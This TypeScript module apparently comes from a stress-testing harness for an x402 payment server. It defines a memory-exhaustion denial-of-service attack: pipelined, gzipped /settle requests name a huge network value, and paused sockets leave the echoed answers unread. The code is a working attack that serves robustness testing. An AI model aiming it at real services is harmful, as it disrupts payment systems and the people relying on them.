import { shown } from '../table.ts';
import type { Attack, Timed } from './attack.ts';
import { connectTo, gzippedPost, keepOpen } from './sending.ts';

interface Size extends Timed {
  connections: number;
  /** Pipelined on each connection. */
  requests: number;
  networkBytes: number;
  renewSeconds: number;
}

/** Refused settlements that name a huge network, for the answer to repeat; nobody reads the answers. */
export const attack: Attack<Size> = {
  file: 'echo.ts',
  title: 'Memory by echo',
  describe: ({ connections, requests, networkBytes, renewSeconds, seconds }) =>
    `${connections} connections, each replaced every ${renewSeconds} s, with ${requests} pipelined settlements of a network of ${shown(networkBytes)} bytes, gzipped, whose answers are not read; for ${seconds} s.`,
  full: { connections: 60, requests: 40, networkBytes: 1_047_000, renewSeconds: 8, seconds: 20 },
  short: { connections: 60, requests: 40, networkBytes: 1_047_000, renewSeconds: 8, seconds: 3 },
  honest: ['health', 'verify', 'settle'],
  submitters: 4,
  rpcDelayMs: 0,
  async send(target, size) {
    const request = gzippedPost('/settle', bodyNaming('x'.repeat(size.networkBytes)));
    const requests = Buffer.concat(Array.from({ length: size.requests }, () => request));
    let opened = 0;
    await keepOpen(size, () => {
      opened += 1;
      const socket = connectTo(target);
      socket.pause();
      socket.write(requests);
      return socket;
    });
    return { 'bytes of a request': request.length, 'requests sent': opened * size.requests };
  },
};

function bodyNaming(network: string): string {
  const paymentRequirements = {
    scheme: 'exact',
    network,
    asset: 'C',
    amount: '1',
    payTo: 'G',
    maxTimeoutSeconds: 60,
  };
  return JSON.stringify({
    x402Version: 2,
    paymentPayload: { x402Version: 2, accepted: {}, payload: {} },
    paymentRequirements,
  });
}
